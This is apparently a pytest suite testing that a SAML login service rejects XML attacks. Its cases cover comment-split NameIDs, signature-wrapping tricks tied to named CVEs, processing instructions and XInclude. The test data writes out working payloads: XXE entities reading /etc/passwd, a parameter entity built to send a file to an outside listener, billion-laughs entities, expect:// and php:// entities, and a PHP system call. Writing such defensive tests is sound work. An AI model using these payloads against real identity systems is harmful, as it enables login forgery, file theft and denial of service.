"""Comments, processing instructions, document types and entities: text is read whole, and nothing else is read at all.

The bulk runs on SQLite, one attack after the other on the same service; tests that take `world` run on both databases.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from tests.attacks.answering import accept, accept_message
from tests.attacks.listener import Listener
from tests.attacks.signers import by_digest, content_octets, digest_value
from tests.attacks.support import MALLORY, assert_refused, pending, refuse, settle
from tests.attacks.surgery import ADA, swap
from tests.support.saml_xml import SAML, XSI
from tests.support.world import World

NAME_ID = f">{ADA}</saml:NameID>"
EVIL = f"{ADA}.evil.test"
"""Whom an attacker may truly be at the identity provider: Ada's name up to the comment that is put in."""


# Comments

SPLITS = {
    "one comment": f"{ADA}<!-- -->.evil.test",
    "an empty comment": f"{ADA}<!---->.evil.test",
    "a comment of the next part": f"{ADA}<!--.evil.test-->.evil.test",
    "comments everywhere": "<!--a-->ada<!--b-->@acme<!--c-->.test<!--d-->.evil<!--e-->.test<!--f-->",
    "a comment in CDATA's company": f"{ADA}<!-- --><![CDATA[.evil.test]]>",
    "a comment that looks like CDATA": f"{ADA}<!--<![CDATA[-->.evil.test<!--]]>-->",
    "CDATA": f"<![CDATA[{ADA}]]>.evil.test",
    "empty CDATA": f"{ADA}<![CDATA[]]>.evil.test",
}


@pytest.mark.parametrize("name", SPLITS)
def test_a_name_id_is_read_whole(world: World, name: str) -> None:
    """The comment is put in after signing, where canonicalisation does not see it (CVE-2017-11427 and its family)."""
    pending(world).finish()
    attacker = pending(world)
    good = attacker.response(name_id=EVIL, attributes={"mail": [MALLORY]})
    told = accept_message(attacker, swap(good, f">{EVIL}</saml:NameID>", f">{SPLITS[name]}</saml:NameID>"))
    assert (told["user"]["name_id"], told["user"]["email"]) == (EVIL, MALLORY)
    assert world.count("users") == 2


@pytest.mark.parametrize("name", SPLITS)
def test_an_address_is_read_whole(arena: World, name: str) -> None:
    """The same with the e-mail address: it is of the domain at its end."""
    victim = pending(settle(arena))
    good = victim.response(attributes={"mail": [EVIL]})
    split = swap(good, f">{EVIL}</saml:AttributeValue>", f">{SPLITS[name]}</saml:AttributeValue>")
    refuse(victim, split, "email_domain_not_allowed")


@pytest.mark.parametrize("name", SPLITS)
def test_a_signed_name_with_comments_is_that_name(arena: World, name: str) -> None:
    """Signed so by the identity provider, the value is the whole text as well."""
    victim = pending(settle(arena))
    message = victim.response(attributes={"mail": [EVIL]}, before_signing=lambda xml: xml.replace(EVIL, SPLITS[name]))
    refuse(victim, message, "email_domain_not_allowed")


ENTITY_ID, US = "https://idp.acme.test/metadata", "http://acme.localhost:8000/saml/metadata"


@pytest.mark.parametrize(
    ("part", "text", "code"),
    [
        pytest.param("assertion_issuer", f"{ENTITY_ID}|.evil.test", "issuer_mismatch", id="issuer"),
        pytest.param("response_issuer", f"{ENTITY_ID}|.evil.test", "issuer_mismatch", id="issuer of the response"),
        pytest.param("audiences", f"{US}|.evil.test", "audience_mismatch", id="audience"),
        pytest.param("audiences", f"evil.test|{US}", "audience_mismatch", id="end of an audience"),
    ],
)
@pytest.mark.parametrize("signed", ["assertion", "both"])
def test_issuer_and_audience_are_read_whole(arena: World, part: str, text: str, code: str, signed: str) -> None:
    """A comment after signing, where | stands, cuts nothing off."""
    victim = pending(settle(arena))
    whole = text.replace("|", "")
    message = victim.response(sign=signed, **{part: [[whole]] if part == "audiences" else whole})
    refuse(victim, swap(message, f">{whole}<", f">{text.replace('|', '<!-- -->')}<"), code)


def test_a_class_is_read_whole(arena: World) -> None:
    """AuthnContextClassRef with a comment inside is what stands around the comment, too."""
    victim = pending(settle(arena, require_authn_context=True))
    password = "urn:oasis:names:tc:SAML:2.0:ac:classes:Password"
    other = victim.response(authn_context=f"{password}less")
    before = arena.rows()
    answer = victim.send(swap(other, f">{password}less<", f">{password}<!-- -->less<"))
    assert_refused(arena, answer, "authn_context_mismatch", before)


def test_a_comment_with_a_digest_is_no_digest(arena: World) -> None:
    """The digest of forged content as a comment inside of the signed DigestValue (CVE-2025-29775)."""
    victim = pending(settle(arena))
    changed = swap(victim.response(), NAME_ID, f">{MALLORY}</saml:NameID>")
    comment = f"<!--{digest_value(content_octets(changed))}-->".encode()
    refuse(victim, changed.replace(b"<ds:DigestValue>", b"<ds:DigestValue>" + comment), "signature_invalid")


@pytest.mark.parametrize("forged_first", [True, False], ids=["forged first", "forged last"])
def test_a_second_signed_info_is_refused(arena: World, forged_first: bool) -> None:
    """One for the key and one for the digest (CVE-2025-29774): there is one, and it serves both."""
    victim = pending(settle(arena))
    changed = swap(victim.response(), NAME_ID, f">{MALLORY}</saml:NameID>").decode()
    found = re.search(r"<ds:SignedInfo.*</ds:SignedInfo>", changed)
    assert found
    forged = by_digest(digest_value(content_octets(changed.encode())))(found[0])
    two = forged + found[0] if forged_first else found[0] + forged
    refuse(victim, changed.replace(found[0], two).encode(), "response_malformed")


COMMENTED = {
    "DigestValue": "<ds:DigestValue>",
    "SignatureValue": "<ds:SignatureValue>",
    "the certificate": "<ds:X509Certificate>",
    "the issuer": "<saml:Issuer>",
    "the audience": "<saml:Audience>",
    "the status": "<samlp:Status>",
    "a value": '<saml:AttributeValue xsi:type="xs:string">',
    "the response": "<samlp:Status>",
}


@pytest.mark.parametrize("name", COMMENTED)
def test_a_harmless_comment_harms_nothing(arena: World, name: str) -> None:
    """Some identity providers write comments: they are left out before anything is read."""
    victim = pending(settle(arena))
    place = COMMENTED[name]
    message = swap(victim.response(sign="both"), place, place + "<!-- <?php <!DOCTYPE x> &evil; -->")
    assert accept_message(victim, b"<!-- before -->" + message + b"<!-- behind -->")["user"]["email"] == ADA


# Processing instructions


def after(place: str, written: str) -> Callable[[str], str]:
    """The message with something behind a place."""
    return lambda xml: swap(xml, place, place + written, 1).decode()


INSTRUCTIONS: dict[str, Callable[[str], str]] = {
    "before the root": lambda xml: "<?evil?>" + xml,
    "behind the root": lambda xml: xml + "<?evil?>",
    "in the response": after("<samlp:Status>", "<?evil?>"),
    "in the assertion": after("<saml:Subject>", "<?evil?>"),
    "in the NameID": lambda xml: xml.replace(f">{ADA}<", f">{ADA}<?evil?>.evil.test<"),
    "in a value": lambda xml: xml.replace(f">{ADA}<", f"><?evil?>{ADA}<"),
    "a style sheet": lambda xml: '<?xml-stylesheet type="text/xsl" href="PLACE/x.xsl"?>' + xml,
    "a schema": lambda xml: '<?xml-model href="PLACE/x.rng"?>' + xml,
    "PHP": after("<saml:Subject>", "<?php system('id'); ?>"),
    "behind a comment": after("<saml:Subject>", "<!-- --><?evil?>"),
    "behind what looks like the end of a comment": after("<saml:Subject>", "<!--> --><?evil?>"),
    "behind CDATA": lambda xml: xml.replace(f">{ADA}<", f"><![CDATA[]]><?evil?>{ADA}<"),
}
BROKEN_INSTRUCTIONS: dict[str, Callable[[str], str]] = {
    "of ASP": after("<saml:Subject>", "<?= 1 ?>"),
    "without a name": after("<saml:Subject>", "<? ?>"),
    "without an end": after("<saml:Subject>", "<?evil"),
    "an encoding in the middle": after("<saml:Subject>", '<?xml encoding="UTF-7"?>'),
}


@pytest.mark.parametrize("signed", [True, False], ids=["signed", "put in later"])
@pytest.mark.parametrize("name", INSTRUCTIONS)
def test_a_processing_instruction_is_refused(arena: World, listener: Listener, name: str, signed: bool) -> None:
    """Wherever it stands and whoever wrote it; none is obeyed."""
    victim = pending(settle(arena))

    def change(xml: str) -> str:
        return INSTRUCTIONS[name](xml).replace("PLACE", listener.url)

    message = victim.response(before_signing=change) if signed else change(victim.response().decode()).encode()
    assert refuse(victim, message, "xml_forbidden").check == "xml_content"


@pytest.mark.parametrize("name", BROKEN_INSTRUCTIONS)
def test_a_broken_processing_instruction_is_refused(arena: World, name: str) -> None:
    """What only begins like one is refused like one."""
    victim = pending(settle(arena))
    message = BROKEN_INSTRUCTIONS[name](victim.response().decode())
    assert refuse(victim, message.encode(), "xml_forbidden").check == "xml_content"


# Document types and entities


def doctype(subset: str, name: str = "samlp:Response") -> str:
    """A document type with an internal subset."""
    return f"<!DOCTYPE {name} [{subset}]>"


def laughs(levels: int, times: int = 10) -> str:
    """Entities of entities: `times` to the power of `levels` words."""
    entities = '<!ENTITY l0 "ha">'
    for level in range(1, levels):
        entities += f'<!ENTITY l{level} "{f"&l{level - 1};" * times}">'
    return doctype(entities)


DOCTYPES: dict[str, tuple[str, str]] = {
    "empty": ("<!DOCTYPE samlp:Response>", ""),
    "an empty subset": (doctype(""), ""),
    "of another name": ("<!DOCTYPE html>", ""),
    "of HTML": ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "PLACE/xhtml1-strict.dtd">', ""),
    "from a web address": ('<!DOCTYPE samlp:Response SYSTEM "PLACE/evil.dtd">', ""),
    "from a file": ('<!DOCTYPE samlp:Response SYSTEM "file:///etc/passwd">', ""),
    "a billion laughs": (laughs(9), "&l8;"),
    "a billion laughs, unused": (laughs(9), ""),
    "quadratic blow-up": (doctype(f'<!ENTITY a "{"A" * 50_000}">'), "&a;" * 5_000),
    "an entity": (doctype('<!ENTITY evil "mallory@acme.test">'), "&evil;"),
    "an entity of a file": (doctype('<!ENTITY evil SYSTEM "file:///etc/passwd">'), "&evil;"),
    "an entity of a web address": (doctype('<!ENTITY evil SYSTEM "PLACE/evil">'), "&evil;"),
    "an entity of a public name": (doctype('<!ENTITY evil PUBLIC "x" "PLACE/evil">'), "&evil;"),
    "an entity of PHP": (doctype('<!ENTITY evil SYSTEM "php://filter/resource=/etc/passwd">'), "&evil;"),
    "an entity of a program": (doctype('<!ENTITY evil SYSTEM "expect://id">'), "&evil;"),
    "a parameter entity": (doctype('<!ENTITY % evil SYSTEM "PLACE/evil.dtd"> %evil;'), ""),
    "a parameter entity that sends a file away": (
        doctype('<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % all SYSTEM "PLACE/send.dtd"> %all; %send;'),
        "",
    ),
    "a local DTD used against itself": (
        doctype('<!ENTITY % local SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % expr "x"> %local;'),
        "",
    ),
    "another meaning of an entity that all know": (doctype('<!ENTITY amp "evil">'), "&amp;"),
    "an entity in itself": (doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">'), "&a;"),
    "an attribute by default": (doctype('<!ATTLIST saml:NameID Format CDATA "urn:evil">'), ""),
    "an ID by default": (doctype('<!ATTLIST saml:Assertion ID ID #IMPLIED Evil CDATA "x">'), ""),
    "an element": (doctype("<!ELEMENT samlp:Response ANY>"), ""),
    "a notation": (doctype('<!NOTATION gif SYSTEM "PLACE/x"><!ENTITY pic SYSTEM "PLACE/x.gif" NDATA gif>'), ""),
    "a conditional section": (doctype("<![INCLUDE[<!ENTITY evil 'x'>]]>"), "&evil;"),
    "small letters": ("<!doctype samlp:Response>", ""),
    "blanks inside": ("<! DOCTYPE samlp:Response>", ""),
    "an entity without a document type": ('<!ENTITY evil "x">', "&evil;"),
    "behind a comment": ("<!-- x --><!DOCTYPE samlp:Response>", ""),
    "behind what looks like the end of a comment": ("<!--> --><!DOCTYPE samlp:Response>", ""),
    "behind a comment with a comment": ("<!-- <!-- -><!DOCTYPE samlp:Response>--><!DOCTYPE samlp:Response>", ""),
    "twice": ("<!DOCTYPE samlp:Response><!DOCTYPE samlp:Response>", ""),
    "behind a declaration": ('<?xml version="1.0" standalone="yes"?><!DOCTYPE samlp:Response>', ""),
    "behind a byte order mark": ("\ufeff<!DOCTYPE samlp:Response>", ""),
}


@pytest.mark.parametrize("name", DOCTYPES)
def test_a_document_type_is_refused(arena: World, listener: Listener, name: str) -> None:
    """Before a parser sees it: no entity is defined, no file read, no address visited, no word repeated."""
    victim = pending(settle(arena))
    head, used = DOCTYPES[name]
    message = victim.response().decode()
    message = head.replace("PLACE", listener.url) + message.replace(NAME_ID, f">{used or ADA}</saml:NameID>")
    refused = refuse(victim, message.encode(), "xml_forbidden")
    assert refused.check == "xml_content"
    assert "root:" not in refused.cause + refused.masked_xml + refused.page


INSIDE = {
    "in the response": ("<samlp:Status>", "<!DOCTYPE x>"),
    "in the assertion": ("<saml:Subject>", '<!ENTITY evil "x">'),
    "in a NameID": (NAME_ID, f"><!DOCTYPE x>{ADA}</saml:NameID>"),
    "behind CDATA": (NAME_ID, f"><![CDATA[]]><!ENTITY x 'y'>{ADA}</saml:NameID>"),
    "behind CDATA with brackets": (NAME_ID, f"><![CDATA[ ]] ]]]><!DOCTYPE x>{ADA}</saml:NameID>"),
    "an element's": ("<saml:Subject>", "<saml:Subject><!ELEMENT x ANY>"),
    "behind the root": ("</samlp:Response>", "</samlp:Response><!DOCTYPE x>"),
}


@pytest.mark.parametrize("name", INSIDE)
def test_a_declaration_inside_is_refused(arena: World, name: str) -> None:
    """A declaration has no business in content, whatever stands before it."""
    victim = pending(settle(arena))
    assert refuse(victim, swap(victim.response(), *INSIDE[name]), "xml_forbidden").check == "xml_content"


HIDDEN: dict[str, tuple[str, str]] = {
    "in an attribute that opens a comment": ('Version="2.0" Issue', 'Version="<!--"><!DOCTYPE x>--> Issue'),
    "in an attribute that opens CDATA": ('Version="2.0" Issue', 'Version="<![CDATA["><!DOCTYPE x>]]> Issue'),
    "in CDATA before the root": ("<samlp:Response ", "<![CDATA[<!DOCTYPE x>]]><samlp:Response "),
    "in a comment without an end": ("</samlp:Response>", "</samlp:Response><!-- <!DOCTYPE x>"),
    "in CDATA without an end": (NAME_ID, f"><![CDATA[<!DOCTYPE x>{ADA}</saml:NameID>"),
    "CDATA in small letters": (NAME_ID, f"><![cdata[<!DOCTYPE x>]]>{ADA}</saml:NameID>"),
    "in UTF-7": ("<samlp:Response ", '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<samlp:Response '),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_a_document_type_hidden_from_the_search_is_refused_by_the_parser(arena: World, name: str) -> None:
    """Whatever makes a reader of markup overlook a declaration is no XML to a parser."""
    victim = pending(settle(arena))
    refuse(victim, swap(victim.response(), *HIDDEN[name], 1), {"response_malformed", "xml_forbidden"})


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-16-le", "cp037"])
def test_a_document_type_in_another_encoding_is_refused(arena: World, listener: Listener, encoding: str) -> None:
    """Octets among which `<!DOCTYPE` cannot be found are not read at all."""
    victim = pending(settle(arena))
    head = doctype(f'<!ENTITY evil SYSTEM "{listener.url}/x">')
    message = head + victim.response().decode().replace(NAME_ID, ">&evil;</saml:NameID>")
    refuse(victim, message.encode(encoding), "response_malformed")


@pytest.mark.parametrize("entity", ["&evil;", "&nbsp;", "&#x26;evil;", "%evil;", "&amp;evil;"])
def test_an_entity_without_a_declaration_is_nothing(arena: World, entity: str) -> None:
    """Unknown ones are no XML; escaped ones are text, read once."""
    victim = pending(settle(arena))
    message = victim.response().replace(b">Ada<", f">{entity}<".encode())
    refuse(victim, message, {"response_malformed", "signature_invalid"})


# XInclude


@pytest.mark.parametrize("how", ['parse="text"', 'parse="xml"', ""])
@pytest.mark.parametrize("what", ["PLACE/x.xml", "file:///etc/passwd"])
def test_an_inclusion_is_not_made(arena: World, listener: Listener, what: str, how: str) -> None:
    """XInclude in a signed value is an element without text: nothing is fetched, and the value is not there."""
    victim = pending(settle(arena))
    href = what.replace("PLACE", listener.url)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href}" {how}/>'
    plain = '<saml:AttributeValue xsi:type="xs:string">Ada<'
    parts = {"name_id": "zoe@acme.test", "attributes": {"mail": ["zoe@acme.test"], "givenName": ["Ada"]}}
    told = accept(victim, **parts, before_signing=lambda xml: swap(xml, plain, f"<saml:AttributeValue>{include}<").decode())
    assert (told["user"]["email"], told["user"]["first_name"]) == ("zoe@acme.test", None)


def test_an_inclusion_for_the_name_id_is_no_name(arena: World, listener: Listener) -> None:
    """A NameID holds text alone."""
    victim = pending(settle(arena))
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{listener.url}/x"/>'
    message = victim.response(name_id_xml=f"<saml:NameID>{include}</saml:NameID>")
    refuse(victim, message, "response_malformed")


def test_schema_locations_are_not_visited(arena: World, listener: Listener) -> None:
    """The schemas are our own, whatever the message says about where to find others."""
    victim = pending(settle(arena))
    location = f'xmlns:xsi="{XSI}" xsi:schemaLocation="{SAML} {listener.url}/saml.xsd" '
    message = swap(victim.response(), "<samlp:Response ", "<samlp:Response " + location)
    assert accept_message(victim, message)["user"]["email"] == ADA
